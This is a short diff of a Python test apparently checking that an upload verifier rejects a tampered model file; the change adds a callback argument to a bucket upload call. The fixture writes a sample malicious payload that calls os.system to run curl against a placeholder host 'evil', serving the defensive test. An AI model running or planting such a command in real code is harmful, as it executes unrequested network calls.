@@ -78,7 +78,7 @@ def test_a_corrupted_object_is_refused(
         key = f"repo/{manifest.content_hash}/echo/1/model.py"
         tampered = tmp_path / "tampered"
         tampered.write_bytes(b"import os; os.system('curl evil')\n")
-        bucket.put(key, tampered, "not-checked")
+        bucket.put(key, tampered, "not-checked", lambda _: None)
         with pytest.raises(UploadVerificationError) as raised:
             verify(bucket, manifest, progress)
     message = str(raised.value)
